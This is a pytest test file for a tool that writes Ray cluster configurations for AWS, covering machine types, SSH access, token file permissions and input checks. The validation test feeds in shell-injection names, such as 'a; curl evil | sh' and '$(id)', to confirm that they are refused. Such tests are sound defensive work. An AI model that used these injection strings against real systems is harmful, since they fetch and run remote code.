"""The file for `ray up`: what Ray reads in it, what a shell does with its commands, and what is refused."""

from __future__ import annotations

import shlex
import stat
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from shoal.cluster import aws
from shoal.cluster.aws import AwsCluster, check_with_ray, cluster_file, make_folder
from shoal.config.yaml_files import load_text
from shoal.errors import ClusterError, ConfigError
from shoal.version import __version__


@pytest.fixture
def small(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AwsCluster:
    """Three machines, with a home of their owner's and a wheel of this version."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home").mkdir()
    wheel = tmp_path / f"shoal_rl-{__version__}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("shoal/__init__.py", "")
    return AwsCluster(
        nodes=3,
        instance_type="m6i.4xlarge",
        head_instance_type="m6i.xlarge",
        image="ami-0123456789abcdef0",
        name="pong",
        region="us-west-2",
        key_name="shoal-us-west-2",
        python="3.11",
        disk_gb=100,
        wheel=wheel,
    )


VARIANTS: dict[str, dict[str, Any]] = {
    "as it is": {},
    "one machine": {"nodes": 1},
    "spot": {"spot": True},
    "spot with a price": {"spot_price": 0.3},
    "own group": {"security_group": "sg-0123456789abcdef0"},
    "ssh from a network": {"ssh_from": "203.0.113.0/24"},
}


@pytest.mark.parametrize("changes", VARIANTS.values(), ids=VARIANTS)
def test_ray_takes_the_file(small: AwsCluster, changes: dict[str, Any]) -> None:
    text = cluster_file(replace(small, **changes))
    assert check_with_ray(text)
    # Ray reads YAML 1.1, we read YAML 1.2: both must see the same.
    assert yaml.safe_load(text) == load_text(text, "cluster.yaml").tree


def test_what_ray_refuses_is_told_in_a_sentence(small: AwsCluster) -> None:
    text = cluster_file(small).replace("max_workers: 2", "max_workers: 1", 1)
    with pytest.raises(ClusterError, match="refuses it: The specified global `max_workers` is smaller"):
        check_with_ray(text)
    with pytest.raises(ClusterError, match="refuses it: Additional properties are not allowed"):
        check_with_ray(cluster_file(small) + "surprise: 1\n")


def test_the_machines_are_those_asked_for(small: AwsCluster) -> None:
    tree = load_text(cluster_file(replace(small, spot_price=0.3)), "cluster.yaml").tree
    head, worker = tree["available_node_types"]["head"], tree["available_node_types"]["worker"]
    assert (tree["max_workers"], head["max_workers"], worker["min_workers"], worker["max_workers"]) == (2, 0, 2, 2)
    assert head["node_config"]["InstanceType"] == "m6i.xlarge"
    assert worker["node_config"]["InstanceType"] == "m6i.4xlarge"
    assert worker["node_config"]["InstanceMarketOptions"] == {
        "MarketType": "spot",
        "SpotOptions": {"MaxPrice": "0.3"},
    }
    assert "InstanceMarketOptions" not in head["node_config"]
    assert worker["node_config"]["BlockDeviceMappings"][0]["Ebs"]["VolumeSize"] == 100


def test_who_may_come_in(small: AwsCluster) -> None:
    text = cluster_file(replace(small, ssh_from="203.0.113.7/32"))
    assert "--protocol tcp --port 22 --cidr 203.0.113.7/32\n" in text
    assert load_text(text, "cluster.yaml").tree["provider"]["security_group"] == {"GroupName": "pong-cluster"}
    assert "--cidr $(curl -s https://checkip.amazonaws.com)/32\n" in cluster_file(small)
    text = cluster_file(replace(small, security_group="sg-0123456789abcdef0"))
    tree = load_text(text, "cluster.yaml").tree
    assert "security-group-ingress" not in text
    assert "security_group" not in tree["provider"]
    for machine in tree["available_node_types"].values():
        assert machine["node_config"]["SecurityGroupIds"] == ["sg-0123456789abcdef0"]


def test_the_token_is_the_users_alone_and_not_in_the_file(small: AwsCluster) -> None:
    assert small.wheel is not None
    path = make_folder(small)
    token = path.read_text()
    assert {file.name for file in path.parent.iterdir()} == {"token", small.wheel.name}
    assert len(token) == 64
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    text = cluster_file(small)
    assert token not in text
    assert load_text(text, "cluster.yaml").tree["file_mounts"] == {"~/.shoal/aws/pong": "~/.shoal/aws/pong"}
    path.chmod(0o644)
    assert make_folder(small).read_text() == token
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def ray_starts(tree: dict[str, Any]) -> list[list[str]]:
    """The words after `ray start`, of the head and of a worker."""
    commands = tree["head_start_ray_commands"][1], tree["worker_start_ray_commands"][1]
    return [shlex.split(command.partition("ray start ")[2]) for command in commands]


def test_ray_start_knows_its_options(small: AwsCluster) -> None:
    from ray.scripts.scripts import start

    head, worker = ray_starts(load_text(cluster_file(small), "cluster.yaml").tree)
    head_options = start.make_context("start", head).params
    assert head_options["head"]
    assert head_options["include_dashboard"] is False
    assert head_options["disable_usage_stats"]
    assert start.make_context("start", worker).params["address"] == "$RAY_HEAD_IP:6379"


def in_bash(command: str, home: Path) -> subprocess.CompletedProcess[str]:
    environ = {"HOME": str(home), "PATH": "/usr/bin:/bin"}
    return subprocess.run(["bash", "-c", command], env=environ, capture_output=True, text=True, check=False)


def test_every_command_is_one_that_bash_understands(small: AwsCluster, tmp_path: Path) -> None:
    tree = load_text(cluster_file(small), "cluster.yaml").tree
    commands = [command for name, lines in tree.items() if name.endswith("commands") for command in lines]
    assert len(commands) >= 10
    for command in commands:
        assert in_bash(f"set -n; {command}", tmp_path).stderr == ""


def test_nothing_starts_without_the_token(small: AwsCluster, tmp_path: Path) -> None:
    tree = load_text(cluster_file(small), "cluster.yaml").tree
    for command in (*tree["head_start_ray_commands"], *tree["worker_start_ray_commands"]):
        assert in_bash(command.replace("ray st", "echo ray st"), tmp_path).stdout == ""


def test_the_token_is_switched_on_in_every_shell(small: AwsCluster) -> None:
    home = make_folder(small).parents[3]
    tree = load_text(cluster_file(small), "cluster.yaml").tree
    (guard,) = (command for command in tree["setup_commands"] if command.startswith("chmod"))
    switch = [command for command in tree["setup_commands"] if "shoal/env" in command]
    for _ in range(2):  # `ray up` runs them again after a change
        for command in (guard, *switch):
            assert in_bash(command, home).returncode == 0
    assert (home / ".bashrc").read_text() == ". ~/.shoal/env\n"
    shown = in_bash('. ~/.bashrc && echo "$RAY_AUTH_MODE" && cat "$RAY_AUTH_TOKEN_PATH" && echo "$PATH"', home).stdout
    mode, rest = shown.split("\n", 1)
    assert mode == "token"
    assert rest == f"{make_folder(small).read_text()}{home}/.shoal/venv/bin:/usr/bin:/bin\n"


def test_a_folder_is_brought_along_and_the_wheel_is_installed(small: AwsCluster, tmp_path: Path) -> None:
    text = cluster_file(replace(small, folder=tmp_path / "home"))
    tree = load_text(text, "cluster.yaml").tree
    assert tree["file_mounts"]["~/home"] == str(tmp_path / "home")
    assert small.wheel is not None
    assert any(f"~/.shoal/aws/pong/{small.wheel.name} 'ray[tune]==" in line for line in tree["setup_commands"])
    assert "cd ~/home && shoal train ENV" in text


def test_a_shoal_from_a_package_index_is_installed_by_its_version(
    small: AwsCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(aws, "installed_from", lambda: None)
    text = cluster_file(replace(small, wheel=None))
    assert f"--python ~/.shoal/venv shoal-rl=={__version__} 'ray[tune]==" in text


@pytest.mark.parametrize(
    ("changes", "problem"),
    [
        ({"name": "a; curl evil | sh"}, "--name"),
        ({"name": "$(id)"}, "--name"),
        ({"instance_type": "m6i"}, "--instance-type"),
        ({"head_instance_type": "large\nx"}, "--head-instance-type"),
        ({"region": "Oregon"}, "--region"),
        ({"image": "ubuntu"}, "--image"),
        ({"key_name": "my key"}, "--key-name"),
        ({"security_group": "default"}, "--security-group"),
        ({"ssh_from": "203.0.113.7/8"}, "--ssh-from"),
        ({"ssh_from": "anywhere"}, "--ssh-from"),
        ({"ssh_from": "0.0.0.0/0", "security_group": "sg-0123456789abcdef0"}, "leave one of them out"),
        ({"python": "3.9"}, "--python"),
        ({"spot_price": float("nan")}, "--spot-price"),
        ({"spot": True, "nodes": 1}, "--spot: the head is never a spot machine"),
        ({"instance_type": "m7g.large"}, "choose both types of the same kind"),
        ({"folder": Path("/no/such/folder")}, "--folder: there is no /no/such/folder"),
        ({"folder": Path("/")}, "--folder: must be a path"),
        ({"folder": Path('/"')}, "--folder: must be a path without spaces and quotes"),
        ({"wheel": Path("/dist/shoal_rl-0.0.1-py3-none-any.whl")}, f"--wheel: must be one of shoal {__version__}"),
    ],
)
def test_what_would_go_wrong_is_refused(small: AwsCluster, changes: dict[str, Any], problem: str) -> None:
    with pytest.raises(ConfigError) as refused:
        replace(small, **changes)
    assert any(problem in told for told in refused.value.problems)


def test_a_wheel_that_was_not_written_is_refused(small: AwsCluster) -> None:
    assert small.wheel is not None
    small.wheel.write_bytes(b"")
    with pytest.raises(ConfigError, match="is no wheel, it has 0 bytes; build it again with pip wheel"):
        replace(small)


@pytest.mark.parametrize(
    ("kind", "processor"), [("m6i", "amd64"), ("g4dn", "amd64"), ("m7g", "arm64"), ("c6gn", "arm64")]
)
def test_without_an_image_the_command_that_finds_one_is_told(small: AwsCluster, kind: str, processor: str) -> None:
    with pytest.raises(ConfigError, match="--image: is missing") as refused:
        replace(small, image=None, instance_type=f"{kind}.large", head_instance_type=f"{kind}.large")
    assert f"/24.04/stable/current/{processor}/hvm/ebs-gp3/ami-id" in str(refused.value)
